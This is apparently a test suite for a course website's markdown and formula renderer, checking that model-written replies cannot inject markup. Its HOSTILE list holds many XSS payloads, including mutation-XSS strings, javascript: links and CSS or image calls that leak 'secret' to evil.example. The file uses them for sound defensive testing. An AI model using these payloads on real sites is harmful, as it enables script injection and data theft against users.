import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from web.formula import DEEPEST, LONGEST, to_mathml
from web.markdown import _HTML, _MATHML, Marker, closed_upto, render, sanitised

HREF = "/courses/energy/read/1/04-atp.md?from=3&to=9#quote"


class _Seen(HTMLParser):
    """Every tag and attribute of a piece of markup, as a browser's tokeniser would meet them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.words = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data


def assert_harmless(markup: str) -> None:
    seen = _Seen(markup)
    assert set(seen.tags) <= _HTML | _MATHML
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"src", "srcset", "style", "xlink:href", "action", "formaction", "background", "ping"}
        if name == "href":
            assert tag == "a"
            assert value is not None
            assert value.startswith(("https://", "#")) or re.match(r"/(?![/\\])", value), value


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png?q=secret)",
    '![x](https://evil.example/a.png "t" onerror=alert(1))',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example)",
    "[x](http://evil.example)",
    "<javascript:alert(1)>",
    "<https://evil.example/?q=secret>",
    "[1]: https://evil.example/\n\n[1]",
    "<a href=https://evil.example onclick=alert(1)>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$$\\text{&amp;lt;script&amp;gt;}$$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{citation}{x}$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    "\\(\\text{<script>alert(1)</script>}\\)",
    '```"><script>alert(1)</script>\nx\n```',
    "``` <img/src=x/onerror=alert(1)>\nx\n```",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<div><p><b>unclosed [x](javascript:alert(1)",
    "\x00<script\x00>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='#' target=_blank id=quote name=csrf-token>x</a>",
    "> " * 3_000 + "<script>alert(1)</script>",
    "- " * 3_000 + "x",
    "[" * 2_000 + "](javascript:alert(1))" * 100,
    "*" * 5_000,
    "$" * 5_001,
    "${" * 2_000 + "}$" * 2_000,
    "\\(" * 3_000,
]


@pytest.mark.parametrize("links", ["none", "https"])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str, links: str) -> None:
    assert_harmless(render(text, [Marker(1, HREF)], links=links, resolve=lambda _: None))  # type: ignore[arg-type]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_is_harmless_to_the_last_step(text: str) -> None:
    assert_harmless(sanitised(text))


FRAGMENTS = st.sampled_from(
    [*HOSTILE[:48], "$", "$$", "`", "```\n", "|", "\n", "\n\n", "[1]", "(", ")", "<", ">", "\\(", "\\)", "\\frac{", "}"]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(FRAGMENTS | st.text(max_size=20), max_size=8).map("".join))
def test_any_mixture_is_harmless(text: str) -> None:
    for links in ("none", "https"):
        assert_harmless(render(text, [Marker(1, HREF, text[:40])], links=links, resolve=lambda _: None))  # type: ignore[arg-type]


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="\\{}$^_&%abcfrnsqtlemx<>\"' 0123;[]", max_size=60))
def test_any_formula_is_typeset_or_shown_as_code(latex: str) -> None:
    markup = to_mathml(latex)
    assert markup.startswith(("<math", "<code"))
    assert_harmless(sanitised(markup))


# -- what should be there ------------------------------------------------------------------------------------------


def test_markers_become_links_and_unknown_numbers_stay_text() -> None:
    markup = render("Glucose is split [1][2], see [7].", [Marker(1, HREF, 'ATP "coin"'), Marker(2, HREF)])
    assert markup.count('class="citation"') == 2
    assert 'data-number="1"' in markup
    assert 'title="ATP &quot;coin&quot;"' in markup
    assert HREF.replace("&", "&amp;") in markup
    assert "[7]" in markup


def test_markers_inside_code_and_formulas_are_left_alone() -> None:
    markup = render("`a[1]` and $x[1]$\n\n```\nb[1]\n```", [Marker(1, HREF)])
    assert "citation" not in markup


def test_a_reply_cannot_redefine_a_marker() -> None:
    markup = render("So it is [1].\n\n[1]: https://evil.example", [Marker(1, HREF)])
    assert "<a" in markup
    assert 'href="https' not in markup


def test_links_of_a_model_lose_their_target_and_those_of_the_course_keep_it() -> None:
    text = "[docs](https://example.org/a) and [next](../2/03-light.md) and [bad](http://example.org)"
    assert "href" not in render(text)
    assert "docs and next and bad" in render(text)
    kept = render(text, links="https", resolve=lambda target: f"/read/{target.lstrip('./')}")
    assert 'href="https://example.org/a"' in kept
    assert 'rel="noopener noreferrer"' in kept
    assert 'href="/read/2/03-light.md"' in kept
    assert kept.count("<a ") == 2


def test_an_image_is_its_alternative_text() -> None:
    assert "a leaf &amp; <" not in (markup := render("![a *leaf* & stem](https://example.org/a.png)"))
    assert "a leaf &amp; stem" in markup
    assert "example.org" not in markup


def test_formulas_tables_and_code() -> None:
    table = "| a | b |\n|---|--:|\n| 1 | 2 |"
    markup = render(f"Inline $\\frac{{1}}{{2}}$.\n\n$$E = mc^2$$\n\n{table}\n\n```python\nx < 1\n```")
    assert "<mfrac>" in markup
    assert 'display="block"' in markup
    assert '<td data-align="right">2</td>' in markup
    assert '<code class="language-python">x &lt; 1' in markup
    assert 'xmlns="http' not in markup


@pytest.mark.parametrize("text", [r"half is \(\frac{1}{2}\)", r"half is \[\frac{1}{2}\]", r"$$\frac{1}{2}$$ is half"])
def test_other_ways_to_write_a_formula(text: str) -> None:
    assert "<mfrac>" in render(text)


def test_money_is_not_a_formula() -> None:
    assert "math" not in render("It costs $5 here and $10 there.")


@pytest.mark.parametrize(
    "latex", ["x" * (LONGEST + 1), "{" * (DEEPEST + 1) + "}" * (DEEPEST + 1), r"\newcommand{\a}{\a\a}\a", r"\frac{", ""]
)
def test_a_formula_that_cannot_be_typeset_is_shown_as_code(latex: str) -> None:
    markup = to_mathml(latex)
    assert markup.startswith('<code class="formula"')
    assert _Seen(markup).words == latex


def test_formula_text_cannot_become_markup() -> None:
    markup = render(r"$\text{&lt;b&gt;}$")
    assert "<b>" not in markup
    assert "<b>" in _Seen(markup).words


def test_direction_is_found_for_each_block_and_formulas_are_left_to_right() -> None:
    markup = render("مرحبا\n\nHello\n\n- واحد\n\n> قال $3 + 4 = 7$")
    assert markup.count('<p dir="auto">') == 2
    assert '<ul dir="auto">' in markup
    assert '<blockquote dir="auto">\n<p>' in markup
    assert '<math display="inline" dir="ltr">' in markup


def test_headings_start_below_those_of_the_page() -> None:
    assert "<h3" in render("# a")
    assert "<h2" in render("# a", top_heading=2)
    assert "<h6" in render("###### a", top_heading=4)


# -- what is closed while a reply is being written -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "closed"),
    [
        ("", ""),
        ("One para", ""),
        ("One.\n\nTwo", "One.\n\n"),
        ("One.\n\n- a\n- b", "One.\n\n"),
        ("One.\r\n\r\nTwo", "One.\r\n\r\n"),
        ("A\u2028B\n\nTwo", "A\u2028B\n\n"),
        ("```\ncode\n\nmore", ""),
        ("```\ncode\n```\nafter", "```\ncode\n```\n"),
        ("| a |\n|---|\n| 1 |", ""),
    ],
)
def test_closed_blocks(text: str, closed: str) -> None:
    assert text[: closed_upto(text)] == closed


PIECES = st.sampled_from(["word ", "\n", "\n\n", "- a", "# h", "```\n", "> q", "| a |\n|---|\n", "$$x$$"])


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=12))
def test_what_is_closed_stays_closed_as_text_grows(pieces: list[str]) -> None:
    text = ""
    closed = 0
    markup = ""
    for piece in pieces:
        text += piece
        now = closed_upto(text)
        assert now >= closed
        assert render(text[:now]).startswith(markup)
        closed, markup = now, render(text[:now])


def test_aligned_lines_and_signs_in_words_are_typeset() -> None:
    lines = to_mathml(r"\begin{aligned}x&=1 \\ y&=2\end{aligned}")
    assert (lines.count("<mtr>"), lines.count("&")) == (2, 0)
    assert to_mathml(r"\begin{gathered}x \\ y\end{gathered}").count("<mtr>") == 2
    assert "<mtext>50% of a_b</mtext>" in to_mathml(r"\text{50\% of a\_b}").replace("\xa0", " ")
